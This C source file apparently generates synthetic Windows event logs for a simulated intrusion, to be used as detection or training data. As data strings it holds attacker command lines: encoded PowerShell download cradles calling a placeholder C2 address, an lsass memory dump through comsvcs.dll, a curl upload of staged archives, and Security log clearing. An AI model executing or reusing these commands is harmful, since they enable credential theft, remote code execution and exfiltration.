/* breach_ev.c - the events the attacker's own actions leave on the hosts they run on. */
#include "gen/breach.h"
#include "gen/evb.h"

#include <stdio.h>
#include <string.h>

#define MS TN_FT_MS
#define SEC TN_FT_SEC
#define C2 "198.51.100.47"
#define OSCE "C:\\Program Files (x86)\\Trend Micro\\OfficeScan\\PCCSRV\\"

static tn_proc sys_proc(tn_rng *sh, uint32_t host, const char *image, const char *cmd)
{
    tn_proc p = {image, cmd, "C:\\Windows\\system32\\", "NT AUTHORITY\\SYSTEM", "System",
                 (uint32_t)tn_rng_range(sh, 1000, 9000) * 4, 0, 0, 0x3e7, 0};
    tn_proc_guid(sh, host, &p);
    return p;
}

static tn_proc user_proc(tn_ctx *c, tn_rng *sh, uint32_t host, uint32_t user, const char *image,
                         const char *cmd)
{
    tn_proc p = sys_proc(sh, host, image, cmd);
    p.user = tn_user_text(c, user);
    p.integrity = "High";
    p.logon_id = tn_rand_logon_id(sh);
    p.session = 2;
    return p;
}

/* The web console's httpd runs a shell; a service with a random name follows. */
static void exploit(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    tn_proc web = sys_proc(sh, h, OSCE "Apache2\\bin\\httpd.exe",
                           "\"" OSCE "Apache2\\bin\\httpd.exe\" -k runservice");
    web.pid = 3000 + (h % 60) * 4;
    tn_proc cmd = sys_proc(sh, h, "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c whoami /all");
    c->tag = TN_T_EXPLOIT;
    tn_ev_proc(c, a->t0, h, &cmd, &web);
    tn_proc who = sys_proc(sh, h, "C:\\Windows\\System32\\whoami.exe", "whoami  /all");
    tn_ev_proc(c, a->t0 + 300 * MS, h, &who, &cmd);
    tn_proc ps = sys_proc(sh, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMQA5ADgALgA1ADEALgAxADAAMAAuADQANwAvAGEAJwApAA==");
    tn_ev_proc(c, a->t0 + 40 * SEC, h, &ps, &web);
    tn_ev_net(c, a->t0 + 42 * SEC, h, &ps, C2, NULL, 443, (uint16_t)tn_rng_range(sh, 49700, 64000));
    char name[9];
    for (int i = 0; i < 8; i++)
        name[i] = (char)((i % 2 ? 'a' : 'A') + tn_rng_below(sh, 26));
    name[8] = '\0';
    c->tag = TN_T_SERVICE;
    tn_ev_7045(c, a->t0 + 7 * 60 * SEC, h, "S-1-5-18", tn_sink_fmt(c->sink, "%s", name),
               "%COMSPEC% /b /c start /b /min powershell.exe -nop -w hidden -noni -c \"IEX "
               "((new-object net.webclient).downloadstring('http://" C2 "/a'))\"",
               "auto start", "LocalSystem");
}

static void dump(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    const tn_host *host = &c->o->hosts[h];
    tn_proc sh_cmd = sys_proc(sh, h, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    tn_proc dll = sys_proc(sh, h, "C:\\Windows\\System32\\rundll32.exe",
        tn_sink_fmt(c->sink, "\"C:\\Windows\\System32\\rundll32.exe\" C:\\Windows\\System32\\comsvcs.dll, "
                             "MiniDump %u C:\\Windows\\Temp\\x.dmp full", host->lsass_pid));
    tn_proc lsass = {"C:\\Windows\\system32\\lsass.exe", "C:\\Windows\\system32\\lsass.exe", NULL,
                     "NT AUTHORITY\\SYSTEM", "System", host->lsass_pid, 0, 0, 0x3e7, 0};
    lsass.guid_lo = 0x3d0a0000u + h * 7919u;
    lsass.guid_hi = 0x4000 + h;
    tn_ev_proc(c, a->t0, h, &dll, &sh_cmd);
    tn_ev_access(c, a->t0 + 150 * MS, h, &dll, &lsass, 0x1fffff,
                 "C:\\Windows\\SYSTEM32\\ntdll.dll+9c534|C:\\Windows\\System32\\KERNELBASE.dll+305fe|"
                 "C:\\Windows\\System32\\comsvcs.dll+30a1e|C:\\Windows\\System32\\rundll32.exe+3bc4");
}

static void runas(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    tn_who me = tn_who_user(c->o, a->user, tn_rand_logon_id(sh));
    tn_who other = tn_who_user(c->o, a->aux, 0);
    tn_proc p = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\runas.exe",
        tn_sink_fmt(c->sink, "runas  /netonly /user:%s\\%s cmd.exe", c->o->domain,
                    c->o->users[a->aux].name));
    tn_proc par = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    tn_ev_proc(c, a->t0, h, &p, &par);
    tn_ev_4648(c, a->t0 + 2 * SEC, h, &me, &other, h, "C:\\Windows\\System32\\runas.exe", p.pid);
}

static void stage(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    tn_proc par = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    tn_proc rar = user_proc(c, sh, h, a->user, "C:\\ProgramData\\Intel\\rar.exe",
        tn_sink_fmt(c->sink, "C:\\ProgramData\\Intel\\rar.exe a -r -ep1 -m5 -hpK1t@mi#2019 "
                             "C:\\ProgramData\\Intel\\upd.rar \\\\%s\\%s\\Personnel "
                             "\\\\%s\\%s\\Designs", c->o->hosts[c->o->fs_hr].name,
                    c->o->hosts[c->o->fs_hr].share, c->o->hosts[c->o->fs_eng].name,
                    c->o->hosts[c->o->fs_eng].share));
    tn_ev_proc(c, a->t0, h, &rar, &par);
}

static void exfil(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    tn_proc par = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    tn_proc curl = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\curl.exe",
        "curl.exe -k -T C:\\ProgramData\\Intel\\upd.rar https://" C2 "/upload");
    tn_ev_proc(c, a->t0, h, &curl, &par);
    for (int i = 0; i < 6; i++)
        tn_ev_net(c, a->t0 + (uint64_t)(i * 90 + 1) * SEC, h, &curl, C2, NULL, 443,
                  (uint16_t)tn_rng_range(sh, 49700, 64000));
}

static void clear(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    uint64_t lid = tn_rand_logon_id(sh);
    tn_who me = tn_who_user(c->o, a->user, lid);
    tn_proc par = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\cmd.exe", "cmd.exe");
    tn_proc w = user_proc(c, sh, h, a->user, "C:\\Windows\\System32\\wevtutil.exe",
                          "wevtutil.exe  cl Security");
    tn_ev_proc(c, a->t0, h, &w, &par);
    tn_ev_1102(c, a->t0 + 400 * MS, h, &me);
}

static void beacon(tn_ctx *c, const tn_act *a, uint32_t h, tn_rng *sh)
{
    tn_proc ps = sys_proc(sh, h, "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                          "powershell.exe -nop -w hidden -noni -c \"IEX ((new-object net.webclient)"
                          ".downloadstring('http://" C2 "/a'))\"");
    ps.pid = 5000 + (h % 100) * 4;
    ps.guid_lo = 0x3d0a0000u + h * 7919u;
    ps.guid_hi = 0x5000 + h;
    tn_ev_net(c, a->t0, h, &ps, C2, NULL, 443, (uint16_t)tn_rng_range(sh, 49700, 64000));
}

void tn_breach_expand(tn_ctx *c, const tn_act *a, uint32_t host, tn_rng *sh)
{
    switch (a->kind) {
    case TN_X_EXPLOIT: exploit(c, a, host, sh); break;
    case TN_X_DUMP: dump(c, a, host, sh); break;
    case TN_X_RUNAS: runas(c, a, host, sh); break;
    case TN_X_STAGE: stage(c, a, host, sh); break;
    case TN_X_EXFIL: exfil(c, a, host, sh); break;
    case TN_X_CLEAR: clear(c, a, host, sh); break;
    case TN_X_BEACON: beacon(c, a, host, sh); break;
    default: break;
    }
}
